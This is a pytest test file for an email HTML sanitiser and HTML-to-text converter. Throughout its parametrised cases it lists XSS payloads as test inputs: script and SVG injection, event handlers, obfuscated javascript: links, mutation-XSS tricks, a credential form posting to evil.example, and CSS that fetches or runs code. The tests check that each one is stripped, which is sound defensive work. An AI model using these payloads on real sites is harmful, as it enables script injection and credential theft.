"""HTML sanitising: nothing that runs, submits, frames or phones home survives."""

from __future__ import annotations

import re
import time

import pytest

from postwise.mime.html_text import html_to_text
from postwise.mime.sanitize import sanitize_html


def clean(html: str) -> str:
    return sanitize_html(html).html


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><script>alert(1)</script></template>",
        "<scr<script>ipt>alert(1)</script>",
    ],
)
def test_no_script_survives(html: str) -> None:
    out = clean(html).lower()
    assert "<script" not in out
    assert "<svg" not in out
    assert not re.search(r"\son[a-z]+\s*=", out)


@pytest.mark.parametrize(
    "html",
    [
        '<p onclick="steal()">x</p>',
        '<img src="cid:a" onerror="steal()">',
        '<a href="https://ok.example" onmouseover="steal()">x</a>',
        '<body onload="steal()"><div>x</div></body>',
        '<table background="cid:x" onfocus="steal()"><tr><td>x</td></tr></table>',
    ],
)
def test_no_event_handler_survives(html: str) -> None:
    out = clean(html)
    assert "steal" not in out
    assert not re.search(r"\son[a-z]+=", out)


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java&#x09;script:alert(1)",
        "&#106;avascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "cid:part1@example.com",
        "/api/auth/logout-all",
    ],
)
def test_dangerous_or_relative_link_targets_are_dropped(href: str) -> None:
    out = clean(f'<a href="{href}">click</a>')
    assert "href" not in out
    assert "click" in out


def test_links_open_in_a_new_context_without_referrer() -> None:
    out = clean('<a href="https://example.com/?a=1&amp;b=2" target="_self" rel="opener">x</a>')
    assert out.count("<a ") == 1
    assert 'href="https://example.com/?a=1&amp;b=2"' in out
    assert 'target="_blank"' in out
    assert 'rel="noopener noreferrer"' in out
    assert "_self" not in out
    assert 'rel="opener"' not in out


def test_mailto_links_are_kept() -> None:
    assert 'href="mailto:someone@example.com"' in clean(
        '<a href="mailto:someone@example.com">m</a>'
    )


@pytest.mark.parametrize(
    "html",
    [
        '<form action="https://evil.example/login"><input name="password"><button>Sign in</button>'
        "</form>",
        '<iframe src="https://evil.example/"></iframe>',
        '<object data="https://evil.example/x.swf"></object>',
        '<embed src="https://evil.example/x.swf">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<base href="https://evil.example/">',
        '<frameset><frame src="https://evil.example/"></frameset>',
        "<style>@import url(https://evil.example/x.css);</style>",
    ],
)
def test_forms_frames_embeds_and_head_elements_are_removed(html: str) -> None:
    out = clean(html).lower()
    for tag in ("<form", "<input", "<button", "<iframe", "<object", "<embed", "<meta", "<link"):
        assert tag not in out
    assert "<base" not in out
    assert "<frame" not in out
    assert "<style" not in out
    assert "evil.example" not in out


def test_tables_and_safe_styles_are_kept() -> None:
    out = clean(
        '<table width="600" cellpadding="4"><tr><td style="color: #333; font-size: 14px; '
        'padding: 8px; position: fixed; top: 0" align="left">Cell</td></tr></table>'
    )
    assert "<table" in out
    assert "<td" in out
    assert 'width="600"' in out
    assert "color:#333" in out.replace(" ", "")
    assert "padding:8px" in out.replace(" ", "")
    assert "position" not in out  # would let mail overlay the surrounding UI
    assert "top:" not in out


@pytest.mark.parametrize(
    "style",
    [
        "width: expression(alert(1))",
        "background-image: u\\72l(https://evil.example/x.png)",
        "background: url(javascript:alert(1))",
        "behavior: url(https://evil.example/x.htc)",
        "-moz-binding: url(https://evil.example/x.xml#x)",
        "background-image: image-set('https://evil.example/x.png' 1x)",
        "list-style-image: url(https://evil.example/x.png)",
    ],
)
def test_css_that_runs_or_fetches_is_dropped(style: str) -> None:
    out = clean(f'<div style="color: red; {style}">x</div>')
    assert "expression" not in out
    assert "evil.example" not in out
    assert "javascript" not in out
    assert "color:red" in out.replace(" ", "")


def test_class_and_id_cannot_clobber_the_page() -> None:
    out = clean('<div id="app" class="modal" name="x">x</div>')
    assert "id=" not in out
    assert "class=" not in out
    assert "name=" not in out


def test_remote_image_is_blocked_and_kept_for_restore() -> None:
    result = sanitize_html(
        '<p>Hi</p><img src="https://cdn.example.com/logo.png?a=1&amp;b=2" alt="logo">'
    )
    assert result.has_remote_images
    assert not result.has_tracking_pixel
    assert ' src="' not in result.html
    assert 'data-postwise-src="https://cdn.example.com/logo.png?a=1&amp;b=2"' in result.html
    assert 'alt="logo"' in result.html


@pytest.mark.parametrize(
    ("html", "original"),
    [
        (
            '<img src="http://cdn.example.com/a.gif">',
            ' data-postwise-src="http://cdn.example.com/a.gif"',
        ),
        ('<img src="//cdn.example.com/a.gif">', ' data-postwise-src="//cdn.example.com/a.gif"'),
        (
            '<img srcset="https://cdn.example.com/a.png 1x, https://cdn.example.com/b.png 2x">',
            ' data-postwise-srcset="https://cdn.example.com/a.png 1x, '
            'https://cdn.example.com/b.png 2x"',
        ),
        (
            '<table background="https://cdn.example.com/bg.png"><tr><td>x</td></tr></table>',
            ' data-postwise-background="https://cdn.example.com/bg.png"',
        ),
        (
            '<table><tr><td background="https://cdn.example.com/bg.png">x</td></tr></table>',
            ' data-postwise-background="https://cdn.example.com/bg.png"',
        ),
    ],
)
def test_every_remote_image_form_is_blocked(html: str, original: str) -> None:
    result = sanitize_html(html)
    assert result.has_remote_images
    assert original in result.html
    without_kept = result.html.replace(original, "")
    assert "cdn.example.com" not in without_kept


def test_css_background_images_are_blocked() -> None:
    result = sanitize_html(
        '<div style="color: red; background-image: url(https://cdn.example.com/bg.png)">x</div>'
    )
    assert result.has_remote_images
    assert "cdn.example.com" not in result.html
    assert "color:red" in result.html.replace(" ", "")


def test_allow_remote_images_keeps_them() -> None:
    html = (
        '<img src="https://cdn.example.com/a.png">'
        '<table><tr><td background="https://cdn.example.com/bg.png" '
        'style="background-image: url(https://cdn.example.com/c.png)">x</td></tr></table>'
    )
    result = sanitize_html(html, allow_remote_images=True)
    assert result.has_remote_images
    assert 'src="https://cdn.example.com/a.png"' in result.html
    assert 'background="https://cdn.example.com/bg.png"' in result.html
    assert "https://cdn.example.com/c.png" in result.html
    assert "data-postwise" not in result.html


def test_inline_and_embedded_images_are_not_remote() -> None:
    result = sanitize_html(
        '<img src="cid:logo@example.com"><img src="data:image/png;base64,iVBORw0KGgo=">'
    )
    assert not result.has_remote_images
    assert 'src="cid:logo@example.com"' in result.html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in result.html


@pytest.mark.parametrize(
    "src",
    ["data:text/html;base64,PHNjcmlwdD4=", "javascript:alert(1)", "images/logo.png", "/logo.png"],
)
def test_other_image_sources_are_dropped(src: str) -> None:
    out = clean(f'<img src="{src}" alt="a">')
    assert "src=" not in out
    assert 'alt="a"' in out


@pytest.mark.parametrize(
    "img",
    [
        '<img src="https://t.example.com/o.gif" width="1" height="1">',
        '<img src="https://t.example.com/o.gif" width="0" height="0">',
        '<img src="https://t.example.com/o.gif" width="1px" height="1px">',
        '<img src="https://t.example.com/o.gif" style="width:1px;height:1px">',
        '<img src="https://t.example.com/o.gif" style="display:none">',
        '<img src="https://t.example.com/o.gif" height="0">',
        '<img src="https://mailtrack.io/trace/mail/abc.png" width="40" height="40">',
        '<img src="https://example.us1.list-manage.com/track/open.php?u=1&amp;id=2">',
        '<img src="https://u123.ct.sendgrid.net/wf/open?upn=abc">',
        '<img src="https://mandrillapp.com/track/open.php?u=1">',
        '<img src="https://www.google-analytics.com/collect?v=1&amp;t=event">',
        '<img src="https://news.example.com/e/o/abc">',
        '<img src="https://mail.example.com/pixel.gif?id=3">',
    ],
)
def test_tracking_pixels_are_flagged_and_removed_even_when_images_are_allowed(img: str) -> None:
    for allow in (False, True):
        result = sanitize_html(f"<p>Hello</p>{img}", allow_remote_images=allow)
        assert result.has_tracking_pixel
        assert "<img" not in result.html
        assert not result.has_remote_images  # nothing left worth a "show images" switch


def test_an_ordinary_image_is_not_a_tracking_pixel() -> None:
    result = sanitize_html('<img src="https://cdn.example.com/photo.jpg" width="600" height="400">')
    assert not result.has_tracking_pixel
    assert result.has_remote_images


def test_attribute_values_cannot_smuggle_markup() -> None:
    out = clean(
        '<p title="<img src=https://evil.example/x>">t</p>'
        '<img alt=\'x" src="https://evil.example/y\' src="cid:ok">'
    )
    assert "<img src=https" not in out
    # The only image left is the cid: one; the alt text is an inert attribute value.
    assert re.findall(r' src="([^"]*)"', out) == ["cid:ok"]
    assert not sanitize_html(out).has_remote_images


def test_srcset_with_anything_but_remote_candidates_is_dropped() -> None:
    out = clean('<img src="cid:a" srcset="logo.png 1x, javascript:alert(1) 2x">')
    assert "srcset" not in out
    assert 'src="cid:a"' in out


def test_no_attribute_value_contains_angle_brackets() -> None:
    # The post-pass regexes rely on '<' and '>' only ever delimiting tags in the output.
    out = clean(
        '<p title="a<b>c" style="font-family: &quot;\\3c img src=x\\3e&quot;">t</p>'
        '<img alt="<img src=https://evil.example/>" src="cid:x">'
        '<a href="https://example.com/<x>">l</a>'
    )
    values = re.findall(r'="([^"]*)"', out)
    assert values
    assert all("<" not in value and ">" not in value for value in values)


def test_text_that_looks_like_an_attribute_is_left_alone() -> None:
    result = sanitize_html('<p>write background="https://x.example/bg.png" in HTML</p>')
    assert not result.has_remote_images
    assert 'background="https://x.example/bg.png"' in result.html


def test_pathologically_nested_html_is_shown_as_text_quickly() -> None:
    # html5ever is quadratic in block-container depth: 50,000 open <div>s took seconds.
    html = "<div>" * 50_000 + "<script>alert(1)</script>deep &amp; text"
    start = time.perf_counter()
    result = sanitize_html(html)
    text = html_to_text(html)
    assert time.perf_counter() - start < 1.0
    assert "<script" not in result.html
    assert "deep &amp; text" in result.html
    assert text.endswith("deep & text")
    assert "<" not in text


def test_ordinary_nesting_is_parsed_normally() -> None:
    html = "<div>" * 200 + "<b>x</b>" + "</div>" * 200
    assert "<b>x</b>" in clean(html)


def test_html_to_text_lays_out_blocks_and_decodes_entities() -> None:
    text = html_to_text(
        "<html><head><title>Title</title><style>p{color:red}</style></head><body>"
        "<div>Hi Bob,</div><div><br></div><div>Fish &amp; chips&nbsp;today</div>"
        "<p>First   paragraph\nwith a wrapped line.</p><p>Second <b>bold</b></p>"
        "<ul><li>one</li><li>two</li></ul>"
        "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>"
        "<script>alert(1)</script></body></html>"
    )
    assert text == (
        "Hi Bob,\n\nFish & chips today\n\nFirst paragraph with a wrapped line.\n\n"
        "Second bold\n\n- one\n- two\n\na b\nc d"
    )


def test_html_to_text_marks_blockquotes_as_quotes() -> None:
    text = html_to_text(
        "<div>Sounds good.</div><div>On Tue, 30 Apr 2024 at 09:00, Alice &lt;a@example.com&gt;"
        " wrote:<br><blockquote>Shall we meet?<br>At ten?<blockquote>Older</blockquote>"
        "</blockquote></div>"
    )
    assert text == (
        "Sounds good.\nOn Tue, 30 Apr 2024 at 09:00, Alice <a@example.com> wrote:\n"
        "> Shall we meet?\n> At ten?\n> > Older"
    )


def test_html_to_text_markers_cannot_be_forged() -> None:
    assert html_to_text("<div>&#2;</div><div>text</div><div>\x03</div>") == "text"


def test_html_to_text_keeps_the_lines_of_pre_blocks() -> None:
    text = html_to_text(
        "<p>The log:</p><pre>ERROR one\n    at frame 1\n\nERROR two</pre>"
        '<div style="white-space:pre-wrap">kept\n  as written</div><p>Done.</p>'
    )
    assert text == (
        "The log:\n\nERROR one\n    at frame 1\n\nERROR two\n\nkept\n  as written\n\nDone."
    )


def test_html_to_text_writes_link_targets_after_the_text() -> None:
    text = html_to_text(
        '<p>Read <a href="https://example.com/docs?a=1&amp;param=2">the docs</a> or '
        '<a href="mailto:bob@example.com?subject=Hi">write to Bob</a>.</p>'
    )
    # "&param" must not come out as "¶m": the entities are decoded once, by lxml.
    assert text == (
        "Read the docs <https://example.com/docs?a=1&param=2> or write to Bob <bob@example.com>."
    )


@pytest.mark.parametrize(
    "link",
    [
        '<a href="https://example.com/">https://example.com</a>',
        '<a href="https://www.example.com/x">example.com/x</a>',
        '<a href="mailto:bob@example.com">bob@example.com</a>',
        '<a href="mailto:bob@example.com">Mail bob@example.com today</a>',
        '<a href="https://t.example/track"><img src="logo.png"></a>',
        '<a href="#top">top</a>',
        '<a href="/relative">relative</a>',
        '<a href="javascript:alert(1)">script</a>',
        '<a href="http://a.example/\x01x">control</a>',
    ],
)
def test_html_to_text_leaves_out_targets_that_add_nothing(link: str) -> None:
    assert "<" not in html_to_text(f"<p>{link}</p>")


def test_html_to_text_keeps_table_rows_and_separates_cells() -> None:
    # Outlook wraps every cell's text in a paragraph; the row must still be one line.
    text = html_to_text(
        "<p>Order:</p><table><tr><th>Item</th><th>Qty</th></tr>"
        "<tr><td><p class=MsoNormal>Coffee beans<o:p></o:p></p></td>"
        "<td><p class=MsoNormal>2</p></td></tr>"
        "<tr><td>Tea</td><td>10</td></tr></table><p>Thanks</p>"
    )
    assert text.split("\n") == [
        "Order:",
        "",
        "Item         Qty",
        "Coffee beans 2",
        "Tea          10",
        "",
        "Thanks",
    ]


def test_html_to_text_decodes_entities_once_inside_tables_too() -> None:
    text = html_to_text(
        "<p>write &amp;lt;b&amp;gt;</p><table><tr><td>x &amp;amp; y</td></tr></table>"
    )
    assert text == "write &lt;b&gt;\n\nx &amp; y"


def test_html_to_text_quote_markers_cannot_be_forged_with_nul() -> None:
    text = html_to_text("<div>\x00&lt;</div><div>a&#0;&gt;</div><blockquote>q</blockquote>")
    assert text.split("\n")[-1] == "> q"
    assert "\x00" not in text
    assert not text.startswith(">")


def test_html_to_text_ignores_styles_that_would_blow_up_the_text() -> None:
    html = '<p style="margin-top:99999em;padding-left:99999em">x</p><td align=center>y</td>'
    assert len(html_to_text(html * 200)) < 2_000


@pytest.mark.parametrize(
    "html",
    [
        "",
        "   ",
        "<",
        "&",
        "<!-- unterminated",
        "<!DOCTYPE html>",
        "<![CDATA[x",
        "\x00\x00<p>\x00</p>",
        '<?xml version="1.0" encoding="iso-8859-1"?><p>x</p>',
        "<td>a</td><tr><td>b</td></tr><th>c",
        "<li>orphan<ol><li value=99999999999999999>x</ol>",
        '<a href="mailto:%00@x">m</a><a href="https://">h</a><a href>e</a>',
        '<p style="display:;white-space:;::;margin-top:-1e309em">s</p>',
        "<table><tr>" + "<td><table><tr>" * 400 + "x",
        "<i>" * 3000 + "deep" + "</i>" * 3000 + "after",
        "<blockquote>" * 900 + "q",
        "<p>a\ud800b</p>",
    ],
)
def test_html_to_text_never_raises_on_broken_html(html: str) -> None:
    text = html_to_text(html)
    assert isinstance(text, str)
    assert "\x00" not in text


def test_html_to_text_keeps_text_beyond_the_parsers_depth_limit() -> None:
    # libxml2 stops at depth 256 unless told otherwise, dropping everything after it.
    html = "<div><span>" * 150 + "deep" + "</span></div>" * 150 + "<p>after</p>"
    text = html_to_text(html)
    assert "deep" in text
    assert text.endswith("after")


def test_html_to_text_table_padding_is_bounded() -> None:
    # One wide cell above many empty rows would be padded into gigabytes.
    html = "<table><tr><td>" + "x" * 100_000 + "</td></tr>" + "<tr><td>y</td></tr>" * 20_000
    start = time.perf_counter()
    text = html_to_text(html + "</table>")
    assert time.perf_counter() - start < 5.0
    assert len(text) < 300_000
    assert text.startswith("x" * 100_000)


def test_html_to_text_indentation_does_not_multiply_the_text() -> None:
    # Every line carries its lists' indentation and its quotes' "> ": unbounded, 900 levels
    # above 100,000 <br>s made 180 MB of text.
    html = "<ul><li>" * 300 + "<blockquote>" * 300 + "<br>x" * 5_000
    text = html_to_text(html)
    assert text.count("x") == 5_000
    assert len(text) < 300_000
